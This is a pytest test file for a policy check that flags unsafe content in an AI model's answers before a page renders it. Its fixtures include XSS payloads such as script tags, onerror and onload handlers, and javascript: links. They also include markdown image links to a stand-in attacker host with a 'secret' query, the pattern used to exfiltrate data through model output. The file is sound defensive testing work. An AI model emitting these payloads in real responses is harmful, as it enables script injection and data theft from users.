"""What an answer brings into the page that shows it."""

import time

import pytest

from router_policies.checks import injection
from router_policies.checks.check import Outcome
from router_policies.checks.options import OptionsError
from tests.router_policies.checks.saying import asks, judged, outcome, says

ANY = injection.make({})
ACME = injection.make({"hosts": ["acme.com", "cdn.example"]})


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("<script>alert(1)</script>", "active HTML"),
        ("< ScRiPt src=//evil.example>", "active HTML"),
        ("<iframe src=x>", "active HTML"),
        ("<svg/onload=alert(1)>", "active HTML"),
        ("<img src=x onerror='alert(1)'>", "active HTML"),
        ("<a href='#' onclick = go()>", "active HTML"),
        ("[here](javascript:alert(1))", "active link"),
        ("data:text/html;base64,PHM+", "active link"),
        ("![](https://evil.example/?q=secret)", "image from elsewhere"),
        ("![a](<https://evil.example/x y>)", "image from elsewhere"),
        ("![a](//evil.example/x)", "image from elsewhere"),
        ("<img alt=x src=https://evil.example/x>", "image from elsewhere"),
        ("![a][1]\n\n[1]: https://evil.example/x", "image from elsewhere"),
        ("![a](https://acme.com@evil.example/x)", "image from elsewhere"),
        ("![a](https://acme.com.evil.example/x)", "image from elsewhere"),
    ],
)
def test_caught(text: str, kind: str) -> None:
    for check in (ANY, ACME):
        found = judged(check, asks(), says(text))
        assert (found.outcome, found.evidence.partition(":")[0]) == (Outcome.FAIL, kind)


@pytest.mark.parametrize(
    "text",
    [
        "if a < b and b > c: print('script')",
        "Use `<script>` for that.",
        "```html\n<script>alert(1)</script>\n```",
        "![logo](https://www.acme.com/logo.png) and ![x](https://cdn.example:8443/x)",
        "![local](/logo.png)",
        "<b>bold</b> <p>text</p> <scripture> <formula>",
        "The onset=x of <y>, on call = off",
        "see acme.com and https://help.acme.com/a?b#c.",
        "a, b, c: javascript is a language",
    ],
)
def test_let_pass(text: str) -> None:
    assert outcome(ACME, asks(), says(text)) is Outcome.PASS


def test_links() -> None:
    away = says("Read https://evil.example/a.")
    assert outcome(ANY, asks(), away) is Outcome.PASS
    assert judged(ACME, asks(), away).evidence == "link to elsewhere: evil.example"
    assert outcome(ACME, asks(), says("`curl https://evil.example`")) is Outcome.FAIL
    assert outcome(injection.make({"html": False}), asks(), says("<script>")) is Outcome.PASS
    with pytest.raises(OptionsError):
        injection.make({"hosts": ["https://acme.com"]})


@pytest.mark.parametrize("piece", ["<", "<a ", "![", "![](", "`", "<img ", "https://", "<a on", "data:", "![a]["])
def test_hostile(piece: str) -> None:
    text = says(piece * (100_000 // len(piece)))
    start = time.process_time()
    outcome(ACME, asks(), text)
    assert time.process_time() - start < 1.0
